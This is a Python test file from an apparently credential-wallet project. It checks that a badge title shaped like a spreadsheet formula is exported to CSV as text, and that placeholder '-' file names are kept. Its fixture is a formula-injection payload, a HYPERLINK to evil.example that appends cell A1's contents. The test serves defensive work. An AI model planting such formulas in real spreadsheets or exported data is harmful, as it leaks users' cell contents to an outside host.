"""The batch as a spreadsheet: a stranger's text that starts like a formula stays text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.robustness.corpus import ob3_document, signers
from wallet.app.verification_table import csv_text
from wallet.app.verifying import ReceivedBytes, VerifyRequest, verify_batch, verify_options


def test_a_title_that_looks_like_a_formula_is_written_as_text() -> None:
    # GIVEN a validly signed badge whose title is a spreadsheet formula
    keys = signers()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    document = ob3_document(keys.ed_did, 1)
    document["name"] = formula
    raw = keys.data_integrity(document, "eddsa-rdfc-2022")
    outcomes = verify_batch([ReceivedBytes("-", raw), Path("-")], verify_options(VerifyRequest()))
    # WHEN the batch is written as CSV
    rows = list(csv.DictReader(io.StringIO(csv_text(outcomes, "en"), newline="")))
    # THEN the title starts with an apostrophe (text in every spreadsheet), and "-" stays "-"
    assert rows[0]["title"] == "'" + formula
    assert [row["file"] for row in rows] == ["-", "-"]
    assert rows[1]["verdict"] == "" and "does not exist" in rows[1]["reason"]
